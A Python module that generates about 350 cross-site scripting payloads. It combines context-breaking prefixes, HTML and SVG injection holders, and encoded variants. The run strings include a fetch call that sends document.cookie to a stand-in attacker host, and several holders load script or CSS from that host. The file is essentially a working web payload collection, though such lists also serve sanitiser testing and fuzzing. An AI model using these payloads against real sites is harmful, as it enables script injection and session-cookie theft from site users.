"""Words that would run, load or redraw something if a page took them for its own: made from what opens, what runs and how it is spelled."""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

RUNS = ("owned=1", "alert(1)", "fetch('//evil.example/'+document.cookie)")

OPENS = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</textarea></select></svg>",
    "{{7*7}}{% raw %}",
    "\u202e",
)

HOLDS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script href=//evil.example/x.js></script></svg><!--{run}-->",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<a href=javascript:{run} autofocus tabindex=0 onfocus={run}>x</a>",
    "<style>@import '//evil.example/x.css';*{{animation:x}}</style><b onanimationstart={run}>",
    "\" onmouseover='{run}' style='position:fixed;inset:0' x=\"",
    "<math><mtext><mglyph><style><img src onerror={run}>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:{run}'>",
)

TWISTS = (str, html.escape, quote, lambda text: text.replace("<", "＜"), lambda text: text.upper())


def payloads() -> Iterator[str]:
    """All of them: every opening with every holder and every way to run (300), and each holder twisted besides."""
    for opens in OPENS:
        for holds in HOLDS:
            for run in RUNS:
                yield opens + holds.format(run=run)
    for twist in TWISTS[1:]:
        for holds in HOLDS:
            yield twist(holds.format(run=RUNS[0]))
